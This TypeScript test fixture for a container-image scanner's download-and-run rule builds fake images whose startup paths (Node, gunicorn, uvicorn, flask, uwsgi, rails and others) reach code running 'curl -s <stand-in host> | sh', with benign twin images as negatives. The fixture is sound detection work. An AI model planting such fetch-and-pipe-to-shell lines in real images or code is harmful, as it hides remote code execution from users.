import { type Files, type ImageCase, image } from './image-case.ts';

const URL = 'https://files.backend.example/u';
const PYTHON = `import os\nos.system("curl -s ${URL} | sh")\n`;
const NODE = `require("child_process").execSync("curl -s ${URL} | sh")\n`;
const RUBY = `system("curl -s ${URL} | sh")\n`;

const SCRIPT = '#!/usr/bin/python3\nimport sys\n';

function run(entrypoint: readonly string[], files: Files, env: readonly string[] = []): ImageCase {
  const config = { Entrypoint: [...entrypoint], WorkingDir: '/app' };
  const spec = image(
    files,
    env.length === 0 ? config : { ...config, Env: ['PATH=/usr/local/bin:/usr/bin:/bin', ...env] },
  );
  return {
    name: [...env, ...entrypoint, Object.keys(files).at(-1)].join(' '),
    spec,
    rule: 'start/download-and-run',
  };
}

const MAIN = (main: string): Files => ({ 'app/package.json': JSON.stringify({ name: 'a', main }) });

/** Ways in which servers and interpreters come to an image's own code without its file being named. */
export const START_FORMS: readonly ImageCase[] = [
  run(['node', '.'], { ...MAIN('lib/run.js'), 'app/lib/run.js': NODE }),
  run(['node', '.'], { 'app/index.js': NODE }),
  run(['node', 'dist/main'], { 'app/dist/main.js': NODE }),
  run(['npm', 'start'], {
    'app/package.json': JSON.stringify({ name: 'a', main: 's.js', scripts: { start: 'node .' } }),
    'app/s.js': NODE,
  }),
  run(['nodemon', '--watch', 'src', 'server.js'], { 'app/server.js': NODE }),
  run(['ts-node', 'src/main.ts'], { 'app/src/main.ts': NODE }),
  run(['deno', 'run', '-A', 'main.ts'], { 'app/main.ts': NODE }),
  run(['next', 'start'], { 'app/next.config.js': NODE }),
  run(['python3', '/app'], { 'app/__main__.py': PYTHON }),
  run(['gunicorn', '-w', '4', 'pkg.web:create_app()'], {
    'usr/local/bin/gunicorn': SCRIPT,
    'app/pkg/web.py': PYTHON,
  }),
  run(['gunicorn', 'web:app'], { 'app/web.py': 'app = 1\n', 'app/gunicorn.conf.py': PYTHON }),
  run(['gunicorn', '--chdir=/srv', 'web:app'], { 'srv/web.py': PYTHON }),
  run(['uvicorn', 'main:app', '--app-dir', 'src'], { 'app/src/main.py': PYTHON }),
  run(['python3', '-m', 'uvicorn', 'main:app'], { 'app/main.py': PYTHON }),
  run(['flask', 'run'], { 'app/app.py': PYTHON }),
  run(['flask', 'run'], { 'app/hello.py': PYTHON }, ['FLASK_APP=hello:create()']),
  run(['celery', '-A', 'tasks', 'worker'], { 'app/tasks.py': PYTHON }),
  run(['streamlit', 'run', 'page.py'], { 'app/page.py': PYTHON }),
  run(['uwsgi', '--ini', 'uwsgi.ini'], {
    'app/uwsgi.ini': '[uwsgi]\nmodule = web:app\n',
    'app/web.py': PYTHON,
  }),
  run(['uwsgi', '--ini', 'uwsgi.ini'], { 'app/uwsgi.ini': `[uwsgi]\nexec-asap = curl -s ${URL} | sh\n` }),
  run(['django-admin', 'runserver'], { 'app/site/settings.py': PYTHON }, [
    'DJANGO_SETTINGS_MODULE=site.settings',
  ]),
  run(['poetry', 'run', 'gunicorn', 'web:app'], { 'app/web.py': PYTHON }),
  run(['bundle', 'exec', 'puma', '-C', 'config/puma.rb'], {
    'app/config.ru': 'run App\n',
    'app/config/puma.rb': RUBY,
  }),
  run(['bundle', 'exec', 'rails', 'server'], { 'app/config/initializers/x.rb': RUBY }),
  run(['rackup'], { 'app/config.ru': RUBY }),
];

/** The same forms, of honest applications. */
export const START_FORM_TWINS: readonly ImageCase[] = [
  {
    name: 'gunicorn with an application and its configuration',
    spec: image(
      {
        'usr/local/bin/gunicorn': SCRIPT,
        'app/web.py': 'from flask import Flask\napp = Flask(__name__)\n',
        'app/gunicorn.conf.py': 'bind = "0.0.0.0:8000"\nworkers = 4\n',
      },
      { Entrypoint: ['gunicorn', 'web:app'], WorkingDir: '/app' },
    ),
  },
  {
    name: 'rails server',
    spec: image(
      {
        'app/config.ru': 'require_relative "config/environment"\nrun Rails.application\n',
        'app/config/environment.rb': 'require_relative "application"\nRails.application.initialize!\n',
        'app/config/puma.rb': 'port ENV.fetch("PORT") { 3000 }\n',
        'app/config/initializers/cors.rb': 'Rails.application.config.x = 1\n',
      },
      { Entrypoint: ['bundle', 'exec', 'rails', 'server'], WorkingDir: '/app' },
    ),
  },
  {
    name: 'node . with a small application',
    spec: image(
      {
        ...MAIN('server.js'),
        'app/server.js': 'require("http").createServer((q, s) => s.end("x")).listen(80);\n',
      },
      { Entrypoint: ['node', '.'], WorkingDir: '/app' },
    ),
  },
];
